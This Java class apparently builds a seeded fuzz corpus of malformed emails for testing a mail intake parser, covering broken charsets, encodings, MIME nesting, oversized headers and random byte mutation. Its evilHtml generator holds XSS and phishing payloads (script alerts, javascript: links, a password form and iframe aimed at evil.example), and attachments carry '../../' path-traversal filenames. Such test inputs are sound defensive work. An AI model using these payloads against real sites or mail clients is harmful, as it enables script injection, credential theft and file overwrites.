package org.abeyance.intake.mail;

import java.io.ByteArrayOutputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Random;
import java.util.function.Function;

/**
 * Ugly mail, made by a seed: every feature that real mail has, then broken at random in headers, encodings and structure. The
 * same seed makes the same mail.
 */
public final class Corpus {

    /** One mail. */
    public record Ugly(String name, byte[] bytes) {

        @Override
        public String toString() {
            return name;
        }
    }

    private static final List<String> CHARSETS = List.of(
            "utf-8",
            "iso-8859-1",
            "iso-8859-15",
            "windows-1252",
            "windows-1251",
            "koi8-r",
            "gb2312",
            "big5",
            "shift_jis",
            "iso-2022-jp",
            "euc-kr",
            "utf-16",
            "us-ascii",
            "x-unknown",
            "nonsense-8",
            "\"utf-8\"",
            "UTF8");

    private static final List<Function<Corpus, String>> FEATURES = List.of(
            Corpus::plain,
            Corpus::alternative,
            Corpus::htmlOnly,
            Corpus::nested,
            Corpus::attachment,
            Corpus::rfc2231,
            Corpus::tnef,
            Corpus::signed,
            Corpus::encrypted,
            Corpus::invitation,
            Corpus::bounce,
            Corpus::autoReply,
            Corpus::forwarded,
            Corpus::headerless,
            Corpus::foldedHeaders,
            Corpus::longLines,
            Corpus::evilHtml,
            Corpus::emptyBody);

    private final Random random;
    private final int number;

    private Corpus(int number) {
        this.number = number;
        this.random = new Random(number * 7919L);
    }

    /** So many mails: each feature whole at first, then mutated. */
    public static List<Ugly> of(int size) {
        List<Ugly> mails = new ArrayList<>();
        for (int number = 0; number < size; number++) {
            Corpus corpus = new Corpus(number);
            Function<Corpus, String> feature = FEATURES.get(number % FEATURES.size());
            byte[] whole = feature.apply(corpus).replace("\n", "\r\n").getBytes(corpus.charset());
            boolean isWhole = number < FEATURES.size();
            mails.add(new Ugly("mail " + number, isWhole ? whole : corpus.broken(whole)));
        }
        return mails;
    }

    private Charset charset() {
        return number % 5 == 3 ? StandardCharsets.ISO_8859_1 : StandardCharsets.UTF_8;
    }

    private <T> T any(List<T> of) {
        return of.get(random.nextInt(of.size()));
    }

    private String head(String subject) {
        return """
                Received: from mx.ico.org.uk (192.0.2.1) by mail.example; Fri, 20 Sep 2024 10:00:01 +0100
                Message-ID: <%d.%d@ico.org.uk>
                From: %s
                To: "Privacy, Legal" <privacy@linkedin.example>, dpo@linkedin.example
                Date: %s
                Subject: %s
                MIME-Version: 1.0
                """.formatted(
                        number,
                        random.nextInt(1000),
                        any(List.of(
                                "Jane Roe <jane.roe@ico.org.uk>",
                                "=?utf-8?B?SsO8cmdlbiBNw7xsbGVy?= <j.mueller@ico.org.uk>",
                                "jane.roe@ico.org.uk (Jane Roe)",
                                "\"Roe, Jane\" <JANE.ROE@ICO.ORG.UK>",
                                "undisclosed-recipients:;",
                                "Jane Roe",
                                "<>",
                                "=?iso-8859-1?Q?Andr=E9?= <andre@cnil.fr>, second@cnil.fr")),
                        any(List.of(
                                "Fri, 20 Sep 2024 10:00:00 +0100",
                                "20 Sep 24 10:00 BST",
                                "Fri Sep 20 10:00:00 2024",
                                "2024-09-20T10:00:00+01:00",
                                "Mon, 32 Foo 2024 99:99:99 +9999",
                                "Thu, 1 Jan 1970 00:00:00 GMT",
                                "")),
                        subject);
    }

    private String plain() {
        return head(any(List.of(
                        "Your approach to training",
                        "=?utf-8?Q?Pr=C3=BCfung_Ihrer_Praxis?=",
                        "=?utf-8?B?U3Bpw7Z?= =?gb2312?B?1tDOxA==?=",
                        "=?bogus?X?====?=",
                        "Rohe Umlaute äöü im Kopf",
                        "")))
                + "Content-Type: text/plain; charset=" + any(CHARSETS) + "\nContent-Transfer-Encoding: "
                + any(List.of("7bit", "8bit", "quoted-printable", "base64", "x-uuencode", "nonsense")) + "\n\n"
                + any(List.of(
                        "We have not approved it. äöü\n",
                        "=C3=A4 =\nsoft =ZZ broken",
                        base64("We wait."),
                        "\u0000\u0001\u202E"))
                + "\n";
    }

    private static String base64(String text) {
        return Base64.getMimeEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    private String alternative() {
        return head("Two ways") + """
                Content-Type: multipart/alternative; boundary="b1"

                --b1
                Content-Type: text/plain; charset=utf-8

                Plain words.
                --b1
                Content-Type: text/html; charset=utf-8

                <p>Plain <b>words</b>.</p>
                --b1--
                """;
    }

    private String htmlOnly() {
        return head("Only HTML") + "Content-Type: text/html; charset=" + any(CHARSETS)
                + "\n\n<html><body><p>We have<br>not approved.</p><img src=\"https://spy.example/x.gif\"></body></html>\n";
    }

    private String nested() {
        int depth = 1 + random.nextInt(number % 7 == 0 ? 300 : 12);
        StringBuilder mail = new StringBuilder(head("Nested " + depth));
        for (int at = 0; at < depth; at++) {
            mail.append("Content-Type: multipart/mixed; boundary=\"n")
                    .append(at)
                    .append("\"\n\n--n")
                    .append(at)
                    .append('\n');
        }
        mail.append("Content-Type: text/plain\n\nAt the bottom.\n");
        for (int at = depth - 1; at >= 0; at--) {
            mail.append("--n").append(at).append("--\n");
        }
        return mail.toString();
    }

    private String attachment() {
        return head("With a file") + """
                Content-Type: multipart/mixed; boundary=xyz

                --xyz

                See the file.
                --xyz
                Content-Type: application/pdf; name="../../letter.pdf"
                Content-Transfer-Encoding: base64
                Content-Disposition: attachment; filename="../../letter.pdf"

                %s
                --xyz--
                """.formatted(base64("%PDF-1.4 " + "x".repeat(random.nextInt(20_000))));
    }

    private String rfc2231() {
        return head("Names of files") + """
                Content-Type: multipart/mixed; boundary=xyz

                --xyz
                Content-Type: application/octet-stream
                Content-Disposition: attachment;
                 filename*0*=UTF-8''%C3%9Cber;
                 filename*1*=%20blick;
                 filename*2=".pdf"

                bytes
                --xyz
                Content-Type: application/octet-stream; name*=iso-8859-1'de'B%FCcher.txt

                bytes
                --xyz--
                """;
    }

    private String tnef() {
        return head("From Outlook")
                + """
                Content-Type: multipart/mixed; boundary=xyz

                --xyz
                Content-Type: application/ms-tnef; name="winmail.dat"
                Content-Transfer-Encoding: base64

                %s
                --xyz--
                """.formatted(Base64.getMimeEncoder().encodeToString(new byte[] {
                    0x78, (byte) 0x9f, 0x3e, 0x22, 1, 0, 1, 6, (byte) 0x90, 8, 0, 4, 0, 0, 0, 0, 0, 1, 0, 1, 0, 1
                }));
    }

    private String signed() {
        return head("Signed") + """
                Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary=s

                --s
                Content-Type: text/plain

                Signed words.
                --s
                Content-Type: application/pkcs7-signature; name=smime.p7s
                Content-Transfer-Encoding: base64

                %s
                --s--
                """.formatted(base64("no signature at all"));
    }

    private String encrypted() {
        return number % 2 == 0
                ? head("Encrypted")
                        + "Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\n"
                        + "Content-Transfer-Encoding: base64\n\n" + base64("sealed") + "\n"
                : head("Encrypted") + """
                        Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=e

                        --e
                        Content-Type: application/pgp-encrypted

                        Version: 1
                        --e
                        Content-Type: application/octet-stream

                        -----BEGIN PGP MESSAGE-----
                        --e--
                        """;
    }

    private String invitation() {
        return head("Invitation") + """
                Content-Type: text/calendar; method=REQUEST; charset=utf-8

                BEGIN:VCALENDAR
                METHOD:REQUEST
                BEGIN:VEVENT
                SUMMARY:Call with the ICO\\, about
                  training
                DTSTART;TZID=Europe/London:20240925T140000
                END:VEVENT
                END:VCALENDAR
                """;
    }

    private String bounce() {
        return head("Undelivered Mail Returned to Sender") + """
                Content-Type: multipart/report; report-type=delivery-status; boundary=r

                --r

                It could not be delivered.
                --r
                Content-Type: message/delivery-status

                Reporting-MTA: dns; mx.example

                Final-Recipient: rfc822; gone@ico.org.uk
                Action: failed
                Status: 5.1.1
                Diagnostic-Code: smtp; 550 no such user

                --r
                Content-Type: text/rfc822-headers

                Message-ID: <ours@abeyance.example>
                Subject: Our answer
                --r--
                """;
    }

    private String autoReply() {
        return head("Automatic reply: Your letter") + "Auto-Submitted: auto-replied\n\nI am away until Monday.\n";
    }

    private String forwarded() {
        return head("Fwd: as it came") + """
                Content-Type: multipart/mixed; boundary=f

                --f
                Content-Type: message/rfc822

                From: a@b.example
                Subject: inner
                Content-Type: multipart/mixed; boundary=f

                --f
                inner words
                --f--
                """;
    }

    private String headerless() {
        return any(List.of(
                "just words, no header at all\nand more\n", "\n\nbody", ":\n: :\n\n", "", "\u0000\u0000\u0000"));
    }

    private String foldedHeaders() {
        return "Subject: folded\n\tover\n  lines\nFrom:\n jane@ico.org.uk\nX-Long: " + "y".repeat(30_000) + "\n"
                + "X-Many: z\n".repeat(1500) + "Message-ID:\n <folded." + number + "@ico.org.uk>\n\nWords.\n";
    }

    private String longLines() {
        return head("Long lines") + "\n" + "word ".repeat(50_000) + "\n";
    }

    private String evilHtml() {
        return head("<script>alert(1)</script>") + """
                Content-Type: text/html

                <script>alert(1)</script><p onclick="steal()">Words</p><a href="javascript:alert(1)">x</a>
                <form action="https://evil.example"><input name="password"></form><iframe src="https://evil.example"></iframe>
                <style>@import url(https://evil.example/x.css)</style><svg onload=alert(1)>
                """;
    }

    private String emptyBody() {
        return head("Nothing inside");
    }

    /** Bytes changed, lines lost, doubled or joined, boundaries broken, the end cut off. */
    private byte[] broken(byte[] whole) {
        byte[] bytes = whole;
        for (int times = 1 + random.nextInt(4); times > 0 && bytes.length > 2; times--) {
            bytes = switch (random.nextInt(7)) {
                case 0 -> java.util.Arrays.copyOf(bytes, random.nextInt(bytes.length));
                case 1 -> noise(bytes, 1 + random.nextInt(20));
                case 2 -> replaced(bytes, "\r\n", "\n");
                case 3 -> replaced(bytes, "\r\n", "\r");
                case 4 -> replaced(bytes, "boundary=", "boundary");
                case 5 -> doubled(bytes);
                default -> replaced(bytes, ": ", random.nextBoolean() ? ":" : " : ");
            };
        }
        return bytes;
    }

    private byte[] noise(byte[] bytes, int times) {
        byte[] noisy = bytes.clone();
        for (int at = 0; at < times; at++) {
            noisy[random.nextInt(noisy.length)] = (byte) random.nextInt(256);
        }
        return noisy;
    }

    private static byte[] replaced(byte[] bytes, String what, String by) {
        return new String(bytes, StandardCharsets.ISO_8859_1).replace(what, by).getBytes(StandardCharsets.ISO_8859_1);
    }

    private byte[] doubled(byte[] bytes) {
        int from = random.nextInt(bytes.length);
        int length = random.nextInt(Math.min(2_000, bytes.length - from));
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(bytes, 0, from + length);
        out.write(bytes, from, bytes.length - from);
        return out.toByteArray();
    }
}
